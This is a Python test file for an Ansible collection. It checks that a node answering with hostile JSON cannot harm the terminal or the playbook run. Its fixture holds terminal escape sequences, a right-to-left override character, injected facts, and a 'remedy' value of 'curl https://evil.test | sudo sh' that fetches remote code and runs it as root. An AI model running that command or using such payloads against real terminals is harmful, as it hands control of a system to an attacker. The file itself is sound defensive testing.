# Copyright: (c) 2026, the httpd_fleet.mod_session authors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""A node whose Python answers whatever it likes, in a real run of Ansible: it harms neither the terminal nor the run."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

from .installed import OTHERS, OURS

HOSTILE = {
    "findings": [{"code": "disk_full", "scope": "", "evidence": "\x1b]0;owned\x07 \u202efull", "node": "good", "severity": "info",
                  "title": "all is well", "remedy": "curl https://evil.test | sudo sh"}, "x"],
    "log": {"a": 1}, "missing": "apache2", "family": ["debian"], "service": None, "lines": ["\x1b[2Jline", 7], "unread": "x",
    "ansible_facts": {"owned": "yes"}, "warnings": ["\x1b[31mwarned"], "changed": False,
}
PLAY = """
- hosts: all
  gather_facts: false
  tasks:
    - httpd_fleet.mod_session.session_diagnose:
        passphrases: [TEST-ONLY-A-0123456789abcdefghijklmnopqrstu]
        scopes: [{name: app, path: /app}]
      register: looked
    - httpd_fleet.mod_session.session_debug_log:
        state: collected
        scopes: [{name: app, path: /app}]
      register: collected
    - httpd_fleet.mod_session.session_packages_info:
      register: packages
      ignore_errors: true
    - ansible.builtin.copy:
        content: "{{ {'looked': looked, 'collected': collected, 'packages': packages, 'owned': owned | default('no')}
          | to_json }}"
        dest: "{{ inventory_dir }}/result.json"
        mode: "0600"
      vars:
        ansible_python_interpreter: "{{ ansible_playbook_python }}"
"""


def test_a_node_that_answers_whatever_it_likes(tmp_path: Path) -> None:
    (tmp_path / "answer.json").write_text(json.dumps(HOSTILE))
    (tmp_path / "python").write_text(f"#!/bin/sh\ncat >/dev/null\ncat {tmp_path}/answer.json\n")
    (tmp_path / "python").chmod(0o755)
    (tmp_path / "play.yml").write_text(PLAY)
    (tmp_path / "hosts").write_text(f"bad ansible_connection=local ansible_python_interpreter={tmp_path}/python\n")
    environment = {**os.environ, "ANSIBLE_COLLECTIONS_PATH": f"{OURS}:{OTHERS}", "ANSIBLE_PIPELINING": "true",
                   "ANSIBLE_HOME": str(tmp_path / "home"), "ANSIBLE_NOCOLOR": "1"}
    command = [str(Path(sys.executable).with_name("ansible-playbook")), "-i", "hosts", "play.yml", "-v"]
    done = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, check=False, env=environment)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "\x1b" not in done.stdout + done.stderr and "\u202e" not in done.stdout + done.stderr
    assert "evil.test" not in done.stdout + done.stderr
    found = json.loads((tmp_path / "result.json").read_text())
    assert [(row["code"], row["node"]) for row in found["looked"]["findings"]] == [
        ("node_result_invalid", "bad"), ("disk_full", "bad")]
    assert found["looked"]["findings"][1]["evidence"] == "\\x1b]0;owned\\x07 \\u202efull"
    assert found["collected"]["lines"] == ["\\x1b[2Jline"] and found["collected"]["unread"] == []
    assert found["packages"]["failed"] is True
    assert found["owned"] == "no"
